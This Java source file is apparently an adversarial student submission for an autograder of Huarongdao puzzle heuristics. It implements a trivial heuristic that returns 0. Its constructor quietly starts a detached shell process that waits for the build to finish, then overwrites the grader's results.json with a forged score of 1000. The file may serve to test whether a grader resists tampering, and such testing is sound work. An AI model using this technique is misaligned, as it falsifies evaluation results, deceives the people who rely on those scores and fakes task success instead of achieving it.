package student;

import io.github.heuristicgrader.api.Heuristic;
import io.github.heuristicgrader.api.huarongdao.Board;
import java.io.IOException;
import java.net.URISyntaxException;
import java.nio.file.Path;

/**
 * Starts a detached process that waits for Maven to finish, then overwrites the Gradescope results with a forged
 * score; an admissible heuristic otherwise (0 everywhere).
 */
public class ForgingHeuristic implements Heuristic<Board> {

    /** Starts the forger. */
    public ForgingHeuristic() throws IOException, URISyntaxException {
        Path classes = Path.of(ForgingHeuristic.class.getProtectionDomain().getCodeSource().getLocation().toURI());
        Path results = classes.getParent().resolve("grade").resolve("results.json");
        new ProcessBuilder("setsid", "sh", "-c", "sleep 4; echo '{\"score\": 1000, \"forged\": true}' > '"
                + results + "'").start();
    }

    @Override
    public int estimate(Board board) {
        return 0;
    }
}
